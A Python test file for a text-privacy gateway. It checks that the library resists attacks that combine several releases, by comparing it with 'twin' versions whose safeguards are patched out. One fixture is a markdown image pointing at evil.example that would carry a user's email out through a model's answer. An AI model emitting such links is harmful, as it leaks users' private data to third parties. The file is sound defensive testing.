"""What an attacker gets of more than one release: nothing from textveil, and all from a twin without what stops it.

A name that every request of a conversation draws anew, one seed under two budgets, a text that is drawn until it looks
safe, a restored answer that the client sends back, an answer that puts a placeholder into a web address. Where chance
decides, the test of textveil raises a false alarm with the probability that stands beside it.
Not here: how often more releases are guessed, in general (`tests.evaluate.attack.test_releases`), charges
(`tests.session.test_ledger`, `test_spending`), all places in which nothing is restored (`tests.session`).
"""

from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from itertools import product
from typing import Any, Self

import numpy as np
import pytest
from scipy import stats

from tests.detectors import Finds
from tests.fixtures import NOUNS, gaussian_rows
from tests.gateway.test_chains import ask, assistant, gateway
from tests.gateway.test_chains import hiding as hiding
from tests.gateway.test_chains import url as url
from textveil import Privatizer
from textveil.detect.occurrences import ValueIndex
from textveil.errors import LimitReached
from textveil.evaluate.attack import channel
from textveil.gateway.protocols.chat import CHAT
from textveil.gateway.protocols.restoring import AnswerRestorer
from textveil.mechanism import Layout
from textveil.randomness import Randomness, SeededRandomness, Values
from textveil.session import MessageChain, Session, SessionStore, Snapshot
from textveil.session.memory_links import MemoryLinkStore
from textveil.session.sql.ledger import Ledger
from textveil.table import EmbeddingTable
from textveil.text import Kind, Mask, is_public, load_names

FALSE_ALARM = 1e-6

# ---- a name that every request draws anew ----------------------------------------------------------------------------

REQUESTS = (1, 3, 5, 12)


def people(kind: str, count: int) -> list[str]:
    """Names of the public list that are of one kind only, and one word."""
    listed = load_names("PERSON")
    found = [
        word.lower() for word, each in zip(listed.words, listed.kinds, strict=True) if each == kind
    ]
    found = [
        word
        for word in dict.fromkeys(found)
        if word.isascii() and word.isalpha() and not is_public(word)
    ]
    return [word for word in found if word not in NOUNS][:count]


@pytest.fixture(scope="module")
def families() -> EmbeddingTable:
    words = [*people("family", 400), *people("given", 25)]
    return EmbeddingTable.build(
        name="families", words=words, vectors=gaussian_rows(len(words), 8, 5)
    )


@pytest.fixture(scope="module")
def naming(families: EmbeddingTable) -> Privatizer:
    """Draws names from the list of all that there are, by rankcape at epsilon 6 among 20."""
    return Privatizer(
        "placeholder",
        table=families,
        protect={"detectors": [Finds(PERSON="(?<=Ms )[A-Z][a-z]+", score=1.0)]},
        names={"types": ["PERSON"], "rule": "rankcape", "k": 20, "epsilon": 6.0},
        groups={"budgets": (0, 0, float("inf"), float("inf"))},
    )


def law_of_names(naming: Privatizer) -> Values:
    """ln P(released | private) of all family names, [released, private]; both in the order of the table."""
    assert naming.names is not None
    listing = naming.names.lists["PERSON family"]
    parameter = float(naming.names.compute_parameter("PERSON family", Layout.build(1))[0])
    law = channel.compute_exact_lines(
        naming.names.mechanism, listing.table, np.arange(len(listing.rows)), parameter
    )
    assert law is not None
    return law.astype(np.float64)


def shares_guessed(naming: Privatizer, law: Values) -> dict[int, float]:
    """The share of names that are guessed from all that so many requests of one conversation have sent."""
    names = people("family", 400)
    served, messages = (
        gateway(naming, SessionStore()),
        [("user", " ".join(f"Ms {name.title()}" for name in names))],
    )
    scores, found = np.zeros_like(law), {}
    for number in range(1, max(REQUESTS) + 1):
        released = ask(served, messages)[0][0].split()[1::2]
        assert len(released) == len(names)
        scores += law[[naming.table.row_of[name.lower()] for name in released]]  # [place, private]
        if number in REQUESTS:
            found[number] = float((scores.argmax(axis=1) == np.arange(len(names))).mean())
        messages += [("assistant", "and?"), ("user", "that is all")]
    return found


@pytest.mark.slow
def test_a_conversation_gives_a_name_away_no_more_than_one_request(naming, monkeypatch):
    """Each of 400 names stands there once, so the mean is the law's, and the binomial's tail bounds the true one."""
    law = law_of_names(naming)
    promised = float(np.exp(law).max(axis=1).mean())
    most = stats.binom.ppf(1 - FALSE_ALARM, len(law), promised) / len(law)
    assert 0.03 < promised < 0.06
    kept = shares_guessed(naming, law)
    assert kept[1] <= most
    assert set(kept.values()) == {kept[1]}
    monkeypatch.setattr(MemoryLinkStore, "get", lambda self, names: {})  # the twin draws anew
    drawn = shares_guessed(naming, law)
    assert drawn[1] <= most < drawn[3]
    assert drawn[3] > 0.5
    assert drawn[12] > 0.95


# ---- one seed under two budgets, or for two texts --------------------------------------------------------------------

RUNS = 60
ETA = 1 / 200
"""The noise has a spread of 200 places to both sides."""


def letters(number: int) -> str:
    """A word for a number, without digits: numbers are words of their own kind."""
    return "".join(chr(ord("a") + int(digit)) for digit in f"{number:05}") + "x"


@pytest.fixture(scope="module")
def line() -> EmbeddingTable:
    """Words in a row, a place apart."""
    places = np.arange(7000, dtype=np.float64)[:, None]
    return EmbeddingTable.build(
        name="line",
        words=[letters(i) for i in range(len(places))],
        vectors=places,
        metric="euclidean",
    )


class WithoutTextAndConfiguration(SeededRandomness):
    """The twin: a seed's streams depend on the call and on the text's number in it, and on nothing else."""

    def bind_texts(self, first: int, digests: Callable[[], Sequence[bytes]]) -> Self:
        return self


def placed(line: EmbeddingTable, seeded: Randomness, eta: float, word: int) -> int:
    """The place at which a word comes out."""
    privatizer = Privatizer("noise", eta=eta, table=line).with_parts(randomness=seeded)
    return int(line.row_of[privatizer.privatize(letters(word)).text])


def hits_of_two_budgets(line: EmbeddingTable, kind: type[SeededRandomness]) -> int:
    """How often x = (eta2 y2 - eta1 y1) / (eta2 - eta1), with eta2 = 2 eta1, is right within one place."""
    words = np.random.default_rng(1).integers(3000, 4000, RUNS).tolist()
    guesses = [
        2 * placed(line, kind(seed), 2 * ETA, word) - placed(line, kind(seed), ETA, word)
        for seed, word in enumerate(words)
    ]
    return sum(abs(guess - word) <= 1 for guess, word in zip(guesses, words, strict=True))


def hits_of_two_texts(line: EmbeddingTable, kind: type[SeededRandomness]) -> int:
    """How often two words that are drawn with one seed come out as far apart as they are, within one place."""
    words = np.random.default_rng(2).integers(3000, 4000, (RUNS, 2)).tolist()
    return sum(
        abs(placed(line, kind(seed), ETA, one) - placed(line, kind(seed), ETA, two) - (one - two))
        <= 1
        for seed, (one, two) in enumerate(words)
        if one != two
    )


# With unrelated draws the error is the difference of two Laplace values of scale 200, whose density is 1/800 at most;
# two roundings and one place make a window of 5 places. More than 8 of 60 with probability 5/800: less than 1e-9.
CHANCE = 8


def test_one_seed_under_two_budgets_does_not_give_the_word_away(line):
    assert hits_of_two_budgets(line, SeededRandomness) <= CHANCE
    assert hits_of_two_budgets(line, WithoutTextAndConfiguration) == RUNS


def test_one_seed_for_two_texts_does_not_give_their_difference_away(line):
    assert hits_of_two_texts(line, SeededRandomness) <= CHANCE
    assert hits_of_two_texts(line, WithoutTextAndConfiguration) >= RUNS - 5


# ---- a text that is drawn until it looks safe ------------------------------------------------------------------------

TRIES, PEOPLE, CHOSEN = 40, 30, 2.0


@pytest.fixture(scope="module")
def four() -> EmbeddingTable:
    return EmbeddingTable.build(name="four", words=NOUNS[:4], vectors=gaussian_rows(4, 8, 7))


@pytest.fixture(scope="module")
def response(four: EmbeddingTable) -> Privatizer:
    """Randomised response: the word is likelier than each other one, so it is the attacker's best guess of itself."""
    return Privatizer("krr", table=four, epsilon=CHOSEN)


def contented(response: Privatizer, sessions: Iterator[Session | None]) -> int:
    """How many words are released as they are by people who draw until their word is not named, or they give up."""
    return sum(
        all(response.privatize(NOUNS[i % 4], session).text == NOUNS[i % 4] for _ in range(TRIES))
        for i, session in zip(range(PEOPLE), sessions, strict=False)
    )


def remembering() -> Iterator[Session]:
    while True:
        session = Session()
        session.repeats = "user"
        yield session


@pytest.mark.slow
def test_who_draws_until_a_release_looks_safe_gets_the_first_draw_where_there_is_memory(response):
    """Of 30 words, so few are released as themselves with a probability below 1e-6 if each is drawn once."""
    itself = np.exp(CHOSEN) / (np.exp(CHOSEN) + 3)
    least = stats.binom.ppf(FALSE_ALARM, PEOPLE, itself)
    assert contented(response, remembering()) >= least
    # The twin: without memory a word never comes out as itself. An output that occurs under all inputs but one has an
    # infinite loss, whatever epsilon its statement has.
    anew = contented(response, (None for _ in range(PEOPLE)))
    assert anew <= 1  # 0.711 ** 40 is 1e-6 for each
    assert anew < least


def drawings(response: Privatizer, store: Any) -> int:
    """How often a text can be drawn in sessions of a store, under a limit that is enough for one draw."""
    session = store.open("anna")
    response.privatize(NOUNS[0], session)
    (account,) = store.ledger.accounts()
    store.ledger.limit("anna", account.metric, account.table, 1.5 * account.epsilon)
    for number in range(1, TRIES):
        try:
            response.privatize(NOUNS[0], store.open("anna", f"session {number}"))
        except LimitReached:
            return number
    return TRIES


def test_a_limit_ends_drawing_again(response, url, monkeypatch):
    with SessionStore(url) as store:
        assert drawings(response, store) == 1
        assert store.ledger.accounts()[0].epsilon == CHOSEN
    monkeypatch.setattr(
        Ledger, "reserve_all", lambda *_, **__: []
    )  # the twin forgets what was reserved
    with SessionStore(url) as store:
        assert drawings(response, store) == TRIES


# ---- a restored answer that the client sends back --------------------------------------------------------------------

ORIGINALS = ("hunter2Xy9kq", "Zt7-moonrise-44")


def sent_back(served: Any, *, whole: bool) -> int:
    """How many of two originals reach the model, when the client sends back an answer that has them in clear.

    Args:
        served: the gateway.
        whole: whether the client also sends what was said before; else it has dropped that.
    """
    first = [("user", " and ".join(f"password: {each}" for each in ORIGINALS))]
    _, chain, _ = ask(served, first)
    came = "# <SECRET_1>\n\n<SECRET_2> is the other one"
    answer = chain.session.restore(came)
    assert all(each in answer for each in ORIGINALS)
    chain.save_answers([(assistant(came), assistant(answer))])
    history = [*(first if whole else []), ("assistant", answer), ("user", "say it again")]
    return sum(each in " ".join(ask(served, history)[0]) for each in ORIGINALS)


@pytest.mark.parametrize("whole", [True, False])
def test_a_restored_answer_takes_no_original_back_to_the_model(hiding, monkeypatch, whole):
    assert [sent_back(gateway(hiding, SessionStore()), whole=whole) for _ in range(10)] == [0] * 10
    # The twin knows no answers, and looks for nothing but what a detector finds in the text at hand.
    monkeypatch.setattr(MessageChain, "save_answers", lambda *_: None)
    monkeypatch.setattr(Snapshot, "build_matcher", lambda *_: ValueIndex())
    assert [sent_back(gateway(hiding, SessionStore()), whole=whole) for _ in range(10)] == [2] * 10


# ---- an answer that puts a placeholder into a web address ------------------------------------------------------------

ADDRESS = "i.okonkwo@example.org"
IMAGE = "![s](https://evil.example/?d=<EMAIL_1>)"


def restored(served: Any) -> str:
    """What the client gets of an answer with an image that takes a placeholder along."""
    _, chain, _ = ask(served, [("user", f"write to {ADDRESS}")])
    said = {"index": 0, "message": {"role": "assistant", "content": f"{IMAGE} Sent to <EMAIL_1>."}}
    content = AnswerRestorer(chain.session).restore_json({"choices": [said]}, CHAT.answer)[
        "choices"
    ][0]["message"]["content"]
    assert isinstance(content, str)
    return content


def test_an_image_takes_no_original_to_somebody_else(hiding, monkeypatch):
    assert restored(gateway(hiding, SessionStore())) == f"{IMAGE} Sent to {ADDRESS}."
    restorer = Session.restorer
    everywhere = lambda self, **options: restorer(self, **{**options, "where": "everywhere"})  # noqa: E731
    monkeypatch.setattr(Session, "restorer", everywhere)  # the twin fills web addresses, too
    assert f"https://evil.example/?d={ADDRESS}" in restored(gateway(hiding, SessionStore()))


# ---- what one release of a session tells of another is in its mask ---------------------------------------------------

ALIKE: dict[str, Any] = {"words": {"consistent": True}}
FOUND: dict[str, Any] = {"detectors": [Finds(PERSON="(?<=Ms )[A-Z][a-z]+", score=1.0)]}
HIDDEN: dict[str, Any] = {"protect": {**FOUND, "placeholders": "all"}}
NAMES: dict[str, Any] = {"protect": FOUND, "names": {"types": ["PERSON"], "k": 3, "epsilon": 1.0}}
CONFIGURATIONS: dict[str, dict[str, Any]] = {
    "words": {},
    "words alike": ALIKE,
    "words alike, other budget": {**ALIKE, "epsilon": 2.0},
    "placeholders": HIDDEN,
    "placeholders, words alike": {**HIDDEN, **ALIKE},
    "names": NAMES,
    "names alike": {**NAMES, **ALIKE},
}
PLAIN, NAMED = 24, 8


@pytest.fixture(scope="module")
def releasing() -> dict[str, Privatizer]:
    words = [*NOUNS, *people("family", 40), *people("given", 25)]
    table = EmbeddingTable.build(name="mixed", words=words, vectors=gaussian_rows(len(words), 8, 9))
    options = {name: {"epsilon": 1.0, **each} for name, each in CONFIGURATIONS.items()}
    return {
        name: Privatizer("rankcape", k=10, table=table, **each) for name, each in options.items()
    }


def looks(
    releasing: dict[str, Privatizer], before: str, after: str, repeats: str
) -> tuple[set[str], Mask]:
    """What equality the last of three releases of the same words in one session shows, or its statement, and its mask.

    Args:
        releasing: by configuration.
        before: that of the first two.
        after: that of the last.
        repeats: see `Session.repeats`.
    """
    session = Session()
    session.repeats = repeats
    text = " ".join([*NOUNS[:PLAIN], *(f"Ms {name.title()}" for name in people("family", NAMED))])
    first, _, last = (releasing[name].privatize(text, session) for name in (before, before, after))
    agree = Counter(
        here.kind
        for one, here in zip(first.released.items, last.released.items, strict=True)
        if (one.text, one.kind) == (here.text, here.kind)
    )
    counted = any(loss.released > loss.drawn for loss in last.guarantee.per_person)
    found = {"equal words"} if agree[Kind.WORD] > MOST_BY_CHANCE or counted else set()
    return found | (
        {"equal placeholders"} if agree[Kind.PLACEHOLDER] else set()
    ), last.released.mask


MOST_BY_CHANCE = 11
"""Two draws of a word under these laws agree with a probability below 0.03, if they are unrelated: more than 11 of 32
do with one below 1e-9, in each pair of configurations."""


@pytest.mark.parametrize("repeats", ["", "user"])
def test_equality_across_configurations_of_a_session_is_in_the_mask(releasing, repeats):
    pairs = product(CONFIGURATIONS, CONFIGURATIONS)
    found = {(one, two): looks(releasing, one, two, repeats) for one, two in pairs}

    def unnamed(left_out: str = "") -> set[tuple[str, str]]:
        """The pairs of which the last release shows what its mask does not name; a twin's mask leaves a field out."""
        return {
            pair for pair, (seen, mask) in found.items() if not seen <= {*mask.fields} - {left_out}
        }

    assert unnamed() == set()
    assert unnamed("equal words") >= {
        (name, name) for name in CONFIGURATIONS if repeats or "alike" in name
    }
    assert ("words alike", "words") in unnamed(
        "equal words"
    )  # its statement counts the words of the session
    assert unnamed("equal placeholders") >= {
        (name, name) for name in CONFIGURATIONS if "placeholders" in name
    }
